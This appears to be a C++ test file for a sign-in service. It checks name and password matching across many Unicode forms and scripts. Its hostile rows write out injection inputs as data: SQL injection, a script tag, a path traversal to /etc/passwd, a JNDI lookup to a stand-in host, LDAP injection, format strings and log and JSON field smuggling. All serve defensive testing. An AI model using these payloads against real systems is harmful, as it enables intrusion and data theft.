// Names and passwords as they are typed at the sign-in: hostile ones, and innocent ones that look odd, and what
// each becomes. 200: in, with the right password; 403: not in, and not told why; 400: no request that a page of
// ours makes.

#include <algorithm>

#include "people/password.hpp"
#include "people/words.hpp"
#include "support/catch.hpp"
#include "support/test_house.hpp"
#include "journal/sqlite_store.hpp"

using namespace etakahvila;
using namespace etakahvila::testing;
using namespace std::string_literals;

namespace {

struct Row {
    int status;
    std::string_view name;
    /// As it stands in JSON, between the quotation marks.
    std::string typed;
};

const std::string usual{TestHouse::password};

/// Each for one of the accounts below.
const std::vector<Row>& innocent_names() {
    static const std::vector<Row> rows{
        {200, "as it is", "Äijälä Aino"},
        {200, "small", "äijälä aino"},
        {200, "large", "ÄIJÄLÄ AINO"},
        {200, "spaces around", "  Äijälä Aino "},
        {200, "two spaces", "Äijälä  Aino"},
        {200, "a tab", "Äijälä\\tAino"},
        {200, "a line break of pasting", "Äijälä Aino\\r\\n"},
        {200, "a space that does not break", "Äijälä\u00a0Aino"},
        {200, "a thin space", "Äijälä\u2009Aino"},
        {200, "dots apart, as a Mac writes them", "A\u0308ija\u0308la\u0308 Aino"},
        {200, "a soft hyphen", "Äijä\u00adlä Aino"},
        {200, "a zero-width space of copying", "Äijälä\u200b Aino"},
        {200, "a byte order mark", "\ufeffÄijälä Aino"},
        {200, "marks of direction of a contact card", "\u202aÄijälä Aino\u202c"},
        {200, "wide letters of another keyboard", "Äijälä \uff21ino"},
        {200, "as JSON may write it", "\\u00c4ij\\u00e4l\\u00e4 Aino"},
        {200, "an apostrophe", "Sean O'Connor"},
        {200, "hyphens", "Anna-Maija Mäki-Ventelä"},
        {200, "Sámi", "Áile Čáhppesš"},
        {200, "Persian", "سارا احمدی"},
        {200, "Sinhala with its joiner", "ශ්\u200dරී"},
        {200, "Hindi", "प्रिया शर्मा"},
        {200, "Vietnamese", "Nguyễn Thị Hồng"},
        {200, "Vietnamese, with its marks apart", "Nguye\u0302\u0303n Thi\u0323 Ho\u0302\u0300ng"},
        {200, "Greek with a final sigma", "ΝΙΚΟΣ"},
        {200, "Turkish", "İpek Işık"},
        {200, "German", "STRAUSS"},
        {200, "one letter", "Ö"},
        {200, "eighty letters", std::string(80, 'a')},
        {200, "a figure", "Ohjaaja 2"},
        {200, "a small figure of it", "ohjaaja  2"},
        {200, "a wide figure", "Ohjaaja \uff12"},
        {200, "large and small", "ÄIJÄLÄ aino"},
        {200, "a wide space before", "\u2003Äijälä Aino"},
        {200, "a narrow space that does not break", "Äijälä\u202fAino"},
        {200, "an ideographic space", "Äijälä\u3000Aino"},
        {200, "a line break within", "Äijälä\\nAino"},
        {200, "marks of direction of a messenger", "\u200eÄijälä Aino\u200e"},
        {200, "a joiner of words", "\u2060Äijälä Aino"},
        {200, "the apostrophe of a telephone", "Sean O\u2019Connor"},
        {200, "hyphens that do not break", "Anna\u2011Maija Mäki\u2011Ventelä"},
        {200, "dashes of a word processor", "anna\u2013maija mäki\u2013ventelä"},
        {200, "large Sámi", "ÁILE ČÁHPPESŠ"},
        {200, "large Vietnamese", "NGUYỄN THỊ HỒNG"},
    };
    return rows;
}

std::vector<Row> hostile_names() {
    return {
        {403, "nothing", ""},
        {403, "a space", " "},
        {403, "nobody", "Kukaan Ei Ole"},
        {403, "a part", "Äijälä"},
        {403, "more", "Äijälä Aino Maija"},
        {403, "a Cyrillic a", "Äijälä \u0410ino"},
        {403, "Greek letters", "Äijälä \u0391ino"},
        {403, "no dots", "Aijala Aino"},
        {403, "SQL", "' OR '1'='1"},
        {403, "more of it", "Äijälä Aino'; DROP TABLE people; --"},
        {403, "LIKE", "%"},
        {403, "a star", "*"},
        {403, "a script", "<script>alert(1)</script>"},
        {403, "a path", "../../etc/passwd"},
        {403, "a format", "%s%s%n"},
        {403, "an expression", "${jndi:ldap://evil.example}"},
        {403, "LDAP", "*)(uid=*))(|(uid=*"},
        {200, "a zero byte at the end", "Äijälä Aino\\u0000"},
        {403, "a zero byte and more", "Äijälä Aino\\u0000x"},
        {200, "a control that nobody sees", "Äijälä\\u0007 Aino"},
        {403, "an escape", "\\u001b[2JÄijälä Aino"},
        {403, "a line of a log", "x\\nlevel=error event=signed_in account=1"},
        {403, "marks stacked", "A" + "\u0301\u0302\u0303\u0304\u0305\u0306"s + "ino"},
        {403, "an account's number", "1"},
        {200, "a private character that nobody sees", "Äijälä Aino\ue000"},
        {403, "a replacement", "Äijälä \ufffdAino"},
        {403, "an emoji", "Äijälä Aino ✓"},
        {403, "two hundred letters", std::string(200, 'a')},
        {400, "two hundred and one", std::string(201, 'a')},
        {400, "sixty thousand", std::string(60'000, 'a')},
        {400, "half an emoji", "Äijälä Aino\\ud83d"},
        {400, "halves the wrong way", "\\ude00\\ud83d"},
        {400, "no UTF-8", "Aino\xff"},
        {400, "an overlong slash", "Aino\xc0\xaf"},
        {400, "a raw control", "Ai\x01no"},
        {400, "another field", "Aino\",\"role\":\"coordinator"},
        {400, "the name twice", "Aino\",\"name\":\"Kaisa"},
        {400, "an end of it", "Aino\"}"},
        {400, "a bad escape", "Aino\\x41"},
        {403, "a point", "Äijälä Aino."},
        {403, "the name twice in one", "Äijälä Aino Äijälä Aino"},
        {403, "letters turned about", "\u202eoniA älijÄ"},
    };
}

struct Password {
    std::string_view what;
    std::string set;
    std::string typed;
    bool is_it;
};

std::vector<Password> passwords() {
    const std::string marks = "salasana, jossa on kaikki: \"\\/<>&';%00 {}";
    return {
        {"as it is", "kahvi ja pulla", "kahvi ja pulla", true},
        {"a space that does not break, as a Mac's keyboard makes it", "kahvi ja pulla", "kahvi\u00a0ja pulla", true},
        {"an ideographic space", "kahvi ja pulla", "kahvi\u3000ja\u2003pulla", true},
        {"dots apart", "äiti söi pöydässä", "a\u0308iti so\u0308i po\u0308yda\u0308ssa\u0308", true},
        {"dots together", "a\u0308iti so\u0308i po\u0308yda\u0308ssa\u0308", "äiti söi pöydässä", true},
        {"an Ångström sign", "\u212bland on kaunis", "Åland on kaunis", true},
        {"spaces around are its own", " kahvi ja pulla ", " kahvi ja pulla ", true},
        {"marks", marks, marks, true},
        {"emoji", "☕☕☕☕☕☕🥐🥐🥐🥐🥐🥐", "☕☕☕☕☕☕🥐🥐🥐🥐🥐🥐", true},
        {"a family of emoji", "👨‍👩‍👧‍👦 ja kahvi ja pulla",
            "👨‍👩‍👧‍👦 ja kahvi ja pulla", true},
        {"Persian with its half-space", "می\u200cخواهم چای بنوشم", "می\u200cخواهم چای بنوشم", true},
        {"Sinhala", "ශ්\u200dරී ලංකාව රට", "ශ්\u200dරී ලංකාව රට", true},
        {"Hindi", "मुझे चाय पसंद है", "मुझे चाय पसंद है", true},
        {"Arabic", "أريد قهوة من فضلك", "أريد قهوة من فضلك", true},
        {"Vietnamese, either way", "tôi muốn uống cà phê",
            "to\u0302i muo\u0302\u0301n uo\u0302\u0301ng ca\u0300 phe\u0302", true},
        {"Sámi", "mun háliidan gáfe", "mun háliidan gáfe", true},
        {"Chinese", "我想在赫尔辛基喝咖啡好吗", "我想在赫尔辛基喝咖啡好吗", true},
        {"as long as may be", std::string(512, 'a'), std::string(512, 'a'), true},
        {"other case", "kahvi ja pulla", "Kahvi ja pulla", false},
        {"a space more", "kahvi ja pulla", "kahvi ja pulla ", false},
        {"two spaces", "kahvi ja pulla", "kahvi  ja pulla", false},
        {"cut", "kahvi ja pulla", "kahvi ja pull", false},
        {"more", "kahvi ja pulla", "kahvi ja pullaa", false},
        {"nothing", "kahvi ja pulla", "", false},
        {"no dots", "äiti söi pöydässä", "aiti soi poydassa", false},
        {"a Cyrillic a", "kahvi ja pulla", "k\u0430hvi ja pulla", false},
        {"wide letters", "kahvi ja pulla", "ｋａｈｖｉ ja pulla", false},
        {"a soft hyphen", "kahvi ja pulla", "kah\u00advi ja pulla", false},
        {"without the half-space", "می\u200cخواهم چای بنوشم", "میخواهم چای بنوشم", false},
        {"a zero byte", "kahvi ja pulla", "kahvi ja pulla\0"s, false},
        {"behind a zero byte", "kahvi ja pulla", "kahvi ja pulla\0x"s, false},
        {"no UTF-8", "kahvi ja pulla", "kahvi ja pulla\xff", false},
        {"the hash itself", "kahvi ja pulla", "$argon2id$v=19$m=65536,t=2,p=1$", false},
        {"SQL", "kahvi ja pulla", "' OR '1'='1", false},
        {"a star", "kahvi ja pulla", "*", false},
        {"of its own kind, 1", "пароль для кафе сегодня", "пароль для кафе сегодня", true},
        {"of its own kind, 2", "ο κωδικός του καφενείου", "ο κωδικός του καφενείου", true},
        {"of its own kind, 3", "รหัสผ่านของร้านกาแฟ", "รหัสผ่านของร้านกาแฟ", true},
        {"of its own kind, 4", "კაფის პაროლი დღეს", "კაფის პაროლი დღეს", true},
        {"of its own kind, 5", "காபி கடையின் கடவுச்சொல்", "காபி கடையின் கடவுச்சொல்", true},
        {"of its own kind, 6", "הסיסמה של בית הקפה", "הסיסמה של בית הקפה", true},
        {"of its own kind, 7", "የካፌው የይለፍ ቃል ዛሬ ነው", "የካፌው የይለፍ ቃል ዛሬ ነው", true},
        {"of its own kind, 8", "コーヒーを飲みたいですね今日は", "コーヒーを飲みたいですね今日は", true},
        {"of its own kind, 9", "커피를 마시고 싶어요 오늘도", "커피를 마시고 싶어요 오늘도", true},
        {"of its own kind, 10", "کلمه عبور کافه امروز", "کلمه عبور کافه امروز", true},
        {"of its own kind, 11", "1234567890123456789", "1234567890123456789", true},
        {"of its own kind, 12", "!!!???...,,,;;;:::", "!!!???...,,,;;;:::", true},
        {"of its own kind, 13", "----------------", "----------------", true},
        {"of its own kind, 14", "(((((((())))))))", "(((((((())))))))", true},
        {"of its own kind, 15", "correct horse battery staple", "correct horse battery staple", true},
        {"of its own kind, 16", "🇫🇮🇸🇪🇳🇴🇩🇰🇫🇮🇸🇪🇳🇴🇩🇰", "🇫🇮🇸🇪🇳🇴🇩🇰🇫🇮🇸🇪🇳🇴🇩🇰", true},
        {"of its own kind, 17", "👍🏽👍🏽👍🏽👍🏽👍🏽👍🏽👍🏽👍🏽", "👍🏽👍🏽👍🏽👍🏽👍🏽👍🏽👍🏽👍🏽", true},
        {"of its own kind, 18", "a b c d e f g h i j k l", "a b c d e f g h i j k l", true},
        {"of its own kind, 19", "https://kahvila.example/#salasana", "https://kahvila.example/#salasana", true},
        {"of its own kind, 20", "'; DROP TABLE people; --", "'; DROP TABLE people; --", true},
        {"a hair space and a thin one", "kahvi ja pulla", "kahvi\u200aja\u2009pulla", true},
        {"an accent apart", "café au lait ja pulla", "cafe\u0301 au lait ja pulla", true},
        {"a ring apart", "Åland on kaunis", "A\u030aland on kaunis", true},
        {"other dashes", "kahvi-ja-pulla-12", "kahvi\u2013ja\u2013pulla\u201312", false},
        {"another apostrophe", "sean o'connor ja kahvi", "sean o\u2019connor ja kahvi", false},
        {"wide figures", "kahvi ja pulla 123", "kahvi ja pulla \uff11\uff12\uff13", false},
        {"figures of another script", "kahvi ja pulla 123", "kahvi ja pulla \u0661\u0662\u0663", false},
        {"ß and ss", "strasse und kaffee", "straße und kaffee", false},
        {"a ligature", "fika och kaffe idag", "\ufb01ka och kaffe idag", false},
        {"a superscript", "kahvi ja pulla 2", "kahvi ja pulla \u00b2", false},
        {"no dot on the i", "kahvi ja pulla", "kahv\u0131 ja pulla", false},
        {"a Greek o", "kahvi on valmista", "kahvi \u03bfn valmista", false},
        {"a line break behind", "kahvi ja pulla", "kahvi ja pulla\n", false},
        {"a space before", "kahvi ja pulla", " kahvi ja pulla", false},
        {"no spaces", "kahvi ja pulla", "kahvijapulla", false},
        {"an underline for a space", "kahvi ja pulla", "kahvi_ja_pulla", false},
        {"in quotes", "kahvi ja pulla", "'kahvi ja pulla'", false},
        {"twice", "kahvi ja pulla", "kahvi ja pullakahvi ja pulla", false},
        {"turned about", "kahvi ja pulla", "allup aj ivhak", false},
        {"another order", "kahvi ja pulla", "pulla ja kahvi", false},
        {"another colour of a hand", "👍🏽👍🏽👍🏽👍🏽👍🏽👍🏽👍🏽👍🏽", "👍👍👍👍👍👍👍👍", false},
        {"another cake", "☕☕☕☕☕☕🥐🥐🥐🥐🥐🥐", "☕☕☕☕☕☕🥐🥐🥐🥐🥐🍩", false},
        {"an accent more", "kahvi ja pulla", "kahv\u00ed ja pulla", false},
        {"a percent for a space", "kahvi ja pulla", "kahvi%20ja%20pulla", false},
        {"a wildcard", "kahvi ja pulla", "kahvi ja pull_", false},
        {"as HTML", "kahvi ja pulla & tee", "kahvi ja pulla &amp; tee", false},
    };
}

/// What the sign-in makes of a name. One that a request can bring is asked no further than whose account it names:
/// comparing a password for each of them would take a minute, and find nothing out of names.
int status_of(const TestHouse& house, const Row& row) {
    if (row.status == 400) return try_to_sign_in(house, row.typed, usual).status;
    simdjson::dom::parser parser;
    std::string_view name;
    const auto text = "\"" + row.typed + "\"";
    REQUIRE(parser.parse(text).get(name) == simdjson::SUCCESS);
    return people::account_named(*house.store().open_reader(), name) ? 200 : 403;
}

}  // namespace

TEST_CASE("Names at the sign-in, hostile and innocent but odd, each with what it becomes") {
    TestHouse house;
    for (const auto* name : {"Äijälä Aino", "Sean O'Connor", "Anna-Maija Mäki-Ventelä", "Áile Čáhppesš", "سارا احمدی",
             "ශ්\u200dරී", "प्रिया शर्मा", "Nguyễn Thị Hồng", "Νίκος", "İpek Işık", "Strauß", "Ö", "Ohjaaja 2"}) {
        house.add_account(name, {});
    }
    house.add_account("Νικος", {});
    house.add_account(std::string(80, 'a'), {});
    for (const auto& row : innocent_names()) {
        INFO(row.name);
        CHECK(status_of(house, row) == row.status);
    }
    for (const auto& row : hostile_names()) {
        INFO(row.name);
        CHECK(status_of(house, row) == row.status);
    }
    // Some of them all the way.
    CHECK(try_to_sign_in(house, innocent_names().front().typed, usual).status == 200);
    CHECK(try_to_sign_in(house, "Äijälä Aino'; DROP TABLE people; --", usual).status == 403);
    CHECK(try_to_sign_in(house, "x\\nlevel=error event=signed_in account=1", usual).status == 403);
    CHECK(innocent_names().size() >= 40);
    CHECK(hostile_names().size() >= 40);
    const auto log = house.log();
    std::istringstream lines{log};
    for (std::string each; std::getline(lines, each);) CHECK(each.starts_with("time="));
    for (const auto* part : {"Aino", "DROP", "alert", "jndi", "passwd"}) CHECK(log.find(part) == log.npos);
}

TEST_CASE("Passwords, hostile and innocent but odd: what is the same, and what is not") {
    const auto rows = passwords();
    const auto same = std::count_if(rows.begin(), rows.end(), [](const Password& row) { return row.is_it; });
    CHECK(same >= 40);
    CHECK(static_cast<std::ptrdiff_t>(rows.size()) - same >= 40);
    for (const auto& [what, set, typed, is_it] : rows) {
        INFO(what);
        CHECK(people::is_good_password(set));
        // The form is what is compared; the slow hash is tried with the first and the last of them below.
        CHECK((people::password_form(set) == people::password_form(typed)) == is_it);
    }
    const auto hash = people::password_hash("kahvi\u00a0ja pulla");
    CHECK(people::is_password("kahvi ja pulla", hash));
    CHECK_FALSE(people::is_password("kahvi  ja pulla", hash));
}

TEST_CASE("A password of before its form was made works as it was typed") {
    // Of "äiti söi pöydässä" with its dots apart, as those bytes were hashed.
    const std::string hash{
        "$argon2id$v=19$m=65536,t=2,p=1$tTSKfD9G0YWKoXTK39WOOw$F6LPcTktcpwUPBgJz4LRsSZge5P44asoQapOC/3xDmY"};
    CHECK(people::is_password("a\u0308iti so\u0308i po\u0308yda\u0308ssa\u0308", hash));
    CHECK_FALSE(people::is_password("äiti söi pöydässä", hash));
}
